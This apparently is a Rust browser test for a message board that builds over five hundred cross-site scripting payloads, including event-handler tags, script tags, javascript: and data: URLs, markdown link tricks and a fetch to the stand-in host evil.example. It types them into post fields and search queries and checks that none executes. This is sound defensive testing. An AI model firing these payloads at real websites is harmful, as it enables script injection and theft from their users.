//! Five hundred texts that try to become scripts, typed into the fields of the board: none ever runs.

use crate::look::noise;
use crate::site::{LEARNER, Site};
use serde_json::json;
use testkit::browser::Browser;

/// Every way in combined with every way to act; each would leave a mark on the window or open a dialog.
fn texts() -> Vec<String> {
    let acts =
        ["window.__ran=1", "alert(1)", "top['__ran']=1", "eval('__ran=1')", "fetch('//evil.example/'+(__ran=1))"];
    let mut texts = Vec::new();
    for act in acts {
        for tag in [
            "img src=x",
            "svg",
            "body",
            "input autofocus",
            "details open",
            "video src=x",
            "iframe",
            "marquee",
            "select autofocus",
            "audio src=x",
        ] {
            for event in
                ["onerror", "onload", "onfocus", "ontoggle", "onstart", "ONMOUSEOVER", "on\u{0}load", "onpageshow"]
            {
                texts.push(format!("<{tag} {event}=\"{act}\">"));
            }
        }
        for whole in [
            "<script>{}</script>",
            "<ScRiPt>{}</sCrIpT>",
            "<script src=data:text/javascript,{}></script>",
            "</textarea><script>{}</script>",
            "</title><script>{}</script>",
            "\"><script>{}</script>",
            "'><svg onload={}>",
            "<a href=\"javascript:{}\">x</a>",
            "[x](javascript:{})",
            "[x](JaVaScRiPt:{})",
            "[x](data:text/html,<script>{}</script>)",
            "![x](x\"onerror=\"{})",
            "<svg><script>{}</script></svg>",
            "<math><mtext><script>{}</script></mtext></math>",
            "<style>@import 'javascript:{}';</style>",
            "<meta http-equiv=refresh content='0;url=javascript:{}'>",
            "<object data='javascript:{}'></object>",
            "<form action='javascript:{}'><button>x</button></form>",
            "<!--<img src='--><img src=x onerror={}>",
            "`<img src=x onerror={}>`",
            "<svg><animate onbegin={} attributeName=x dur=1s>",
            "<a href='&#106;avascript:{}'>x</a>",
            "{{{{{}}}}}",
            "${{{}}}",
        ] {
            texts.push(whole.replace("{}", act));
        }
    }
    texts
}

#[test]
fn five_hundred_texts_never_become_scripts() {
    let texts = texts();
    assert!(texts.len() >= 500, "{}", texts.len());
    let Some(browser) = Browser::start(true, 1280) else { return };
    // The trap itself works: on a page that lets scripts through, the mark is seen.
    browser.open("data:text/html,<svg onload=window.__ran=1>");
    assert_eq!(browser.run("return typeof window.__ran;", Vec::new()), json!("number"));
    let site = Site::start();
    site.sign_in(&browser, LEARNER);
    let board = browser.run(
        "return [...document.querySelectorAll('nav.menu a')].map(a => a.pathname).find(path => path.endsWith('/posts'));",
        Vec::new(),
    );
    let board = board.as_str().unwrap().to_owned();
    let _before = noise(&browser, &site);
    for (number, some) in texts.chunks(75).enumerate() {
        browser.open(&site.url(&format!("{board}/new?kind=knowhow")));
        let title: String = some[0].chars().take(90).collect();
        let set = "const [name, text] = arguments; const field = document.querySelector(`main form [name=\"${name}\"]`); if (field) field.value = text; return !!field;";
        assert_eq!(browser.run(set, vec![json!("title"), json!(title)]), json!(true));
        let body = some.join("\n\n");
        assert_eq!(browser.run(set, vec![json!("body"), json!(body)]), json!(true));
        browser.leave(|browser| browser.click("main form.sheet button.primary"));
        assert!(browser.url().contains("/posts/"), "{number}: {}", browser.text("main"));
        let post = browser.url();
        let _set = browser
            .run(set, vec![json!("body"), json!(some.iter().rev().take(20).cloned().collect::<Vec<_>>().join(" "))]);
        browser.open(&post);
        unharmed(&browser, &site, &post);
    }
    for text in texts.iter().step_by(25) {
        let query: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let search = site.url(&format!("{board}?q={query}"));
        browser.open(&search);
        unharmed(&browser, &site, &search);
    }
    browser.open(&site.url(&board));
    unharmed(&browser, &site, "the list");
}

fn unharmed(browser: &Browser, site: &Site, at: &str) {
    assert!(!browser.dialog(), "a dialog at {at}");
    assert_eq!(browser.run("return typeof window.__ran;", Vec::new()), json!("undefined"), "a script ran at {at}");
    let handlers = browser.run(
        "return [...document.querySelectorAll('main *')].flatMap(one => [...one.attributes]).filter(a => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value)).length;",
        Vec::new(),
    );
    assert_eq!(handlers, json!(0), "a handler at {at}");
    let asked: Vec<String> = noise(browser, site).into_iter().filter(|line| line.starts_with("asked for")).collect();
    assert!(asked.is_empty(), "{at}: {asked:?}");
}
